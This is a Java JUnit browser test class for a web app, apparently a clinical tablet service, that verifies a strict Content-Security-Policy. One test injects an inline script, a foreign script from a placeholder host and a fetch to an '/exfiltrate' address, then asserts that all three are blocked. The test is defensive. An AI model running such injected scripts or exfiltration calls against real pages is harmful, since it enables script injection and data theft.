package ma.tabiblink.web.browser;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.util.List;

import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import ma.tabiblink.web.support.WebTestSupport;

/**
 * The strict Content-Security-Policy is sent and enforced: no inline or foreign script runs, the page talks only to
 * its own origin and the signalling server, nobody may frame it. The other browser tests check that their screens
 * work under it with no violation reported ({@link BrowserSession#close()}).
 */
class ContentSecurityPolicyBrowserTest extends WebTestSupport {

    @BeforeAll
    static void requireBrowser() {
        BrowserSession.assumeBrowserInstalled();
    }

    @Test
    void everyPageCarriesAStrictPolicy() throws Exception {
        HttpResponse<String> page = HttpClient.newHttpClient().send(HttpRequest.newBuilder(
                URI.create("http://127.0.0.1:" + port + "/")).build(), HttpResponse.BodyHandlers.ofString());
        String policy = page.headers().firstValue("Content-Security-Policy").orElseThrow();
        String signalingUrl = as("nurse1").get("/api/v1/config").json().path("signalingUrl").asText();
        String signalingOrigin = signalingUrl.substring(0, signalingUrl.indexOf('/', "ws://".length()));
        assertThat(policy).contains("default-src 'self'", "script-src 'self';", "frame-ancestors 'none'",
                "connect-src 'self' " + signalingOrigin + ";", "object-src 'none'", "base-uri 'none'");
        assertThat(policy).doesNotContain("unsafe-inline").doesNotContain("unsafe-eval");
        assertThat(page.body()).doesNotContain("<script>").doesNotContain(" onload=").doesNotContain(" onclick=");
        assertThat(page.headers().firstValue("X-Frame-Options")).hasValue("DENY");
    }

    @Test
    void inlineAndForeignScriptsAndForeignConnectionsAreBlockedInTheBrowserAndReported() throws Exception {
        try (BrowserSession nurse = BrowserSession.openTablet("http://127.0.0.1:" + port)) {
            nurse.signIn("nurse1", "fr");
            nurse.waitFor("#urgent button.specialty");
            assertThat(nurse.cspViolations()).as("the nurse's screen under the policy").isEmpty();

            nurse.script("""
                    const inline = document.createElement('script');
                    inline.textContent = 'window.inlineRan = true';
                    document.body.append(inline);
                    const foreign = document.createElement('script');
                    foreign.src = 'https://scripts.example.invalid/x.js';
                    document.body.append(foreign);
                    fetch('http://127.0.0.2:9/exfiltrate').catch(() => {});
                    """);
            nurse.waitUntil("the violations are reported", b -> b.cspViolations().size() >= 3);
            assertThat(nurse.script("return window.inlineRan === true")).isEqualTo(false);
            List<String> violations = nurse.cspViolations();
            assertThat(violations).anyMatch(v -> v.startsWith("script-src-elem blocked inline"))
                    .anyMatch(v -> v.contains("scripts.example.invalid"))
                    .anyMatch(v -> v.startsWith("connect-src blocked http://127.0.0.2:9"));
            nurse.forgetCspViolations();
        }
    }

    @Test
    void theApiDocumentationScreenWorksUnderItsPolicy() throws Exception {
        try (BrowserSession browser = BrowserSession.open("http://127.0.0.1:" + port)) {
            browser.driver().get("http://127.0.0.1:" + port + "/swagger-ui/index.html");
            browser.waitFor(".swagger-ui .info .title");
            browser.waitFor(".swagger-ui .opblock");
            assertThat(browser.cspViolations()).isEmpty();
        }
    }
}
